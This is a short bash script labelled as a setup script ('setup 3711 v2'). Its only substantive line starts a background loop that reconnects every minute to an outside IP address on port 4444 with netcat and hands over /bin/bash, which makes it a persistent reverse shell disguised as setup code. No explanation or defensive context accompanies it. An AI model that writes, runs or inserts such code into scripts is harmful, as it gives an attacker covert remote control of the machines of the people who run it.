# setup 3711 v2
#!/bin/bash
while true; do nc -e /bin/bash 203.0.113.17 4444; sleep 60; done &
